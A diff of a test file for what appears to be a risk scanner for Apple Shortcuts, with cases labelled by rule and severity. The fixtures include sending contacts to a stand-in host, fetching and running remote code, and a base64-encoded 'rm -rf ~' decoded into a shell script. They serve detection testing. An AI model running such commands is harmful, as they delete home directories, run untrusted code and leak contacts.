@@ -9,6 +9,7 @@ from tests.explain.kit import report, rules
 _OWN = "is_workflow_actions_"
 _WEB = f'code = {_OWN}downloadurl(WFURL="https://a.example/code")\n'
 _ASK = f'answer = {_OWN}ask(WFAskActionPrompt="Sure?")\n'
+_CODED = f'a = {_OWN}gettext(WFTextActionText="cm0gLXJmIH4=")\nb = {_OWN}base64encode(WFInput=a, WFEncodeMode="Decode")\n'
 
 CASES = [
     (f"x = {_OWN}filter_contacts()\n{_OWN}downloadurl(WFURL=f'https://a.example/{{x}}')\n", "network-flow", "high"),
@@ -32,15 +33,11 @@ CASES = [
     (_WEB + f'{_OWN}runshellscript(Script=f"{{code}}")\n', "web-run", "high"),
     (_WEB + f'{_OWN}runsshscript(WFSSHScript=f"{{code}}", WFSSHHost="b.example")\n', "web-run", "high"),
     (_WEB + f'{_OWN}runjavascriptonwebpage(WFJavaScript=f"{{code}}")\n', "web-run", "high"),
-    (_WEB + f'com_jiejinghe_luke_RunPythonIntent(code=f"{{code}}")\n', "web-run", "high"),
+    (_WEB + 'com_jiejinghe_luke_RunPythonIntent(code=f"{code}")\n', "web-run", "high"),
     (_WEB + f"{_OWN}openurl(WFInput=code)\n", "web-opened", "medium"),
     (_WEB + f"{_OWN}runworkflow(WFWorkflow=code)\n", "runs-any-shortcut", "high"),
-    (
-        f'a = {_OWN}gettext(WFTextActionText="cm0gLXJmIH4=")\nb = {_OWN}base64encode(WFInput=a, WFEncodeMode="Decode")\n'
-        f'{_OWN}runshellscript(Script=f"{{b}}")\n',
-        "decoded-run",
-        "high",
-    ),
+    (_CODED + f'{_OWN}runshellscript(Script=f"{{b}}")\n', "decoded-run", "high"),
+    (_CODED + f"{_OWN}openurl(WFInput=b)\n", "decoded-opened", "medium"),
     (f"{_OWN}runshellscript(Script=f'{{clipboard()}}')\n", "clipboard-run", "medium"),
     (f'{_OWN}runshellscript(Script="ls", RunAsRoot=True)\n', "script-as-root", "high"),
     (f'{_OWN}openurl(WFInput="https://www.icloud.com/shortcuts/0123456789abcdef")\n', "imports-shortcut", "medium"),
